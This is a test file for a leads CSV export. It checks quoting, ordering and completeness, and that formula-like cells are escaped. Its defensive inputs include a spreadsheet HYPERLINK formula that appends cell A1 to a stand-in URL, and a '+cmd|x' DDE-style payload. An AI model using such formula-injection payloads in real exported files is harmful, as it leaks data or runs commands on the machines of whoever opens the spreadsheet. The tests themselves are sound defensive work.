import assert from 'node:assert/strict'
import { randomUUIDv7 } from 'node:crypto'
import { test } from 'node:test'
import { json } from '#platform/db/schema/schema.ts'
import { leave, newHost } from '../../../test/harness/card-visitors.ts'
import { ask, useHouse } from '../../../test/harness/harness.ts'
import { csvLine } from './export.ts'

const house = await useHouse()

test('leads are downloaded as CSV, newest first, with the text of visitors as text', async () => {
  const host = await newHost(house, { timeZone: 'Pacific/Auckland' })
  house.clock.set('2026-03-14T20:00:00.000Z')
  await leave(house, host, { displayName: 'Ana "Ace" Ribeiro', email: 'ana@example.com', phone: '+351 912 345 678' })
  house.clock.set('2026-03-14T21:30:00.000Z')
  const note = '=HYPERLINK("https://example.com?"&A1)\nSecond line'
  const { id } = await leave(house, host, { displayName: '@Bo', company: 'Barro, Lda', note })
  await host.client.Leads_discard({ id })
  const { status, headers, text } = await ask(house, 'GET /api/leads.csv', { token: host.token })
  house.clock.reset()
  assert.deepEqual([status, headers.get('cache-control')], [200, 'private, no-store'])
  assert.match(headers.get('content-type') ?? '', /^text\/csv/)
  assert.equal(headers.get('content-disposition'), 'attachment; filename="leads-2026-03-15.csv"')
  const card = `${host.workspace}/rui`
  assert.equal(
    text.replace('\uFEFF', ''),
    [
      'Name,Title,Company,E-mail,Phone,Profiles,Note,Card,State,Received,Agreed at',
      `'@Bo,,"Barro, Lda",,,,"'=HYPERLINK(""https://example.com?""&A1)\nSecond line",${card},discarded,2026-03-15 10:30,`,
      `"Ana ""Ace"" Ribeiro",,,ana@example.com,+351 912 345 678,,,${card},waiting,2026-03-15 09:00,`,
      '',
    ].join('\r\n'),
  )
})

test('many leads are all in the file, once', async () => {
  const host = await newHost(house)
  const { id } = await leave(house, host, { displayName: 'Visitor' })
  const { db } = house.kith
  const row = await db
    .selectFrom('leads')
    .select(['memberId', 'createdAt', 'updatedAt', 'sourceCard'])
    .where('id', '=', id)
    .executeTakeFirstOrThrow()
  const copies = Array.from({ length: 420 }, (_, at) => ({
    ...row,
    id: randomUUIDv7(),
    fingerprint: `${at}`,
    displayName: `Visitor ${at}`,
    sourceCard: json(row.sourceCard),
    profiles: json([]),
    heldFor: json([]),
  }))
  await db.insertInto('leads').values(copies).execute()
  const { text } = await ask(house, 'GET /api/leads.csv', { token: host.token })
  const names = text.match(/^Visitor[^,]*/gm) ?? []
  assert.deepEqual([names.length, new Set(names).size], [421, 421])
  const waiting = await ask(house, 'GET /api/leads.csv?state=review', { token: host.token })
  assert.equal(waiting.text.trim().split('\r\n').length, 1)
})

test('no cell starts like a formula', () => {
  for (const text of ['=1+1', '+cmd|x', '-2+A1', '@SUM(A1)', ' =1', '\t=1', '\r=1', '＝1', '+1 (A1)'])
    assert.match(csvLine([text]), /^"?'/, JSON.stringify(text))
  for (const text of ['+351 912 345 678', 'Ana', '', '1-2', '+44 (0) 20.7946'])
    assert.equal(csvLine([text]), `${text}\r\n`)
})
